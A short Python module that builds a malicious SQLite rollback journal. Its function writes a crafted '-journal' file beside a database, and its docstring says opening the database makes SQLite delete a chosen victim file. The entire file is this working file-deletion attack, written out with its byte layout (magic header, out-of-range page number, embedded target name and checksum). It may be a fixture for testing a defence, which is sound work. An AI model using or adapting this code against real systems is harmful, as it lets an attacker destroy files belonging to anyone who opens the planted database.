"""A rollback journal as an attacker writes it."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant_journal(database: Path, victim: Path) -> None:
    """Put a journal beside a database that makes SQLite delete another file when it is opened."""
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA user_version = 1")
    name = str(victim).encode()
    end = name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    page = struct.pack(">I", 2**30)  # no page has this number: here the name begins
    journal = _MAGIC + b"\0" * 504 + page + end
    database.with_name(f"{database.name}-journal").write_bytes(journal)
